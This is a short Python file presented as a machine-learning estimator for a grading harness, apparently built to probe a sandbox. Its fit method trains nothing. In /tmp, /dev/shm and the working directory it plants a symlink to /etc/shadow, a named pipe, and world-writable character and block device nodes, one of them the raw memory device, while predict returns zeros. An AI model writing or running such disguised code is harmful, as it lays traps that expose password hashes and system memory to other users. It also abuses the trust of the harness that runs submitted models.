"""Leaves links, pipes and devices where others may step on them."""

import contextlib
import os
import stat

import numpy as np


class Estimator:
    def fit(self, X, y):
        for place in ("/tmp/", "", "/dev/shm/"):
            os.symlink("/etc/shadow", place + "left-behind-link")
            os.mkfifo(place + "left-behind-pipe")
            for kind, device in ((stat.S_IFCHR, os.makedev(1, 1)), (stat.S_IFBLK, os.makedev(254, 0))):
                with contextlib.suppress(OSError):
                    os.mknod(place + f"left-behind-{kind}", kind | 0o666, device)
                    print("made a device")
        return self

    def predict(self, X):
        return np.zeros(len(X))


def get_estimator():
    return Estimator()
